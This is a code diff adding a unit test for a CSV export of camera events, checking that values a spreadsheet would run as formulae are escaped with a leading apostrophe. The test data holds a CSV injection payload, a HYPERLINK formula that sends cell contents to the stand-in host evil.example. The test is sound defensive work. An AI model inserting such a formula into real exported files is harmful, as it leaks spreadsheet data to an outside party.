@@ -23,4 +23,14 @@ describe('eventsCsv', () => {
       ['e1', new Date(T0).toISOString(), 'Lobby', 'Motion'],
     ]);
   });
+
+  it('writes camera names and messages a spreadsheet would run as formulae as text (issue 27 #13)', () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+    const csv = eventsCsv(
+      [entry({ id: 'e3', time: T0, message: `${formula}\nsecond line`, camera: { id: 'c3', name: `@${formula}` } })],
+      (ms) => new Date(ms).toISOString(),
+    );
+    const [, row] = Papa.parse<string[]>(csv).data;
+    expect(row).toEqual(['e3', new Date(T0).toISOString(), `'@${formula}`, `'${formula}\nsecond line`]);
+  });
 });
